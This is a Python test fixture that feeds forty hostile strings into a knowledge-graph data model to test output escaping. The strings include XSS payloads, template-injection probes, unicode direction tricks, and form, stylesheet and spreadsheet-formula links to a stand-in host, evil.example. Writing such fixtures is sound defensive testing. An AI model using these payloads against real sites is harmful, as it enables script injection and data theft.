"""Forty strings that try to break out of a page, and a graph that has them everywhere."""

from __future__ import annotations

from corpora import told

from kg.model import Actor, Article, Extraction

RUN = "ranHostile"

STRINGS = (
    f"<script>{RUN}(1)</script>",
    f"</script><script>{RUN}(2)</script>",
    f"</ScRiPt ><script>{RUN}(3)</script>",
    f"<img src=x onerror={RUN}(4)>",
    f"<svg onload={RUN}(5)>",
    f'"><svg/onload={RUN}(6)>',
    f"'><img src=x onerror={RUN}(7)>",
    f"<body onload={RUN}(8)>",
    f"<iframe srcdoc='<script>parent.{RUN}(9)</script>'>",
    f"<details open ontoggle={RUN}(10)>x",
    f"<a href=javascript:{RUN}(11)>href</a>",
    f"javascript:{RUN}(12)",
    f"JaVaScRiPt:{RUN}(13)",
    f"java\tscript:{RUN}(14)",
    f"data:text/html,<script>{RUN}(15)</script>",
    f"vbscript:{RUN}(16)",
    "{{7*7}}{{ config }}",
    "{% include 'page.html.j2' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<!-- <script>",
    "<!--<script><!--",
    "]]><script>",
    "-->",
    "\\u003cscript\\u003e",
    "&lt;script&gt;&#60;script&#62;",
    "&quot;&apos;\"'`",
    "\u202egpj.exe",
    "\u2066\u2067\u2068isolated\u2069",
    "\u200f\u200eمرحبا",
    "lone \ud800 surrogate \udfff",
    "null \x00 bell \x07 escape \x1b[31m",
    "line\u2028separator\u2029end",
    "\ufeffbom\uffff",
    "a" * 5000,
    "Z̸͉͑a̷l̴g̵o" * 20,
    "👩‍👩‍👧‍👦🇺🇳 emoji 𝕬",
    f"<style>*{{display:none}}</style><link rel=stylesheet href=//evil.example/{RUN}>",
    f"<base href=//evil.example/><form action=//evil.example><button formaction=javascript:{RUN}(39)>",
    '=HYPERLINK("http://evil.example","x")',
)


def hostile() -> list[Extraction]:
    """Give articles that carry each string as actor, alias, predicate, sentence, claimant, title, outlet and URL."""
    return list(map(_article, range(len(STRINGS)), STRINGS))


def _article(n: int, text: str) -> Extraction:
    article = Article(f"{n} {text}", text, text, "2025-01-02", text, text)
    subject = Actor(f"{n} {text}", "person", (text,), None, text)
    object_ = Actor("Ukraine", "state", (text,), "Q212")
    sentence = f"{subject.name} met Ukraine"
    known = told(article, "met", subject, object_, sentence, "met", claimant=Actor(text, "group"))
    unknown = told(article, f"p{n}{text}", subject, object_, f"{text} or so", text[0], status="negated")
    return Extraction(article, (known, unknown))
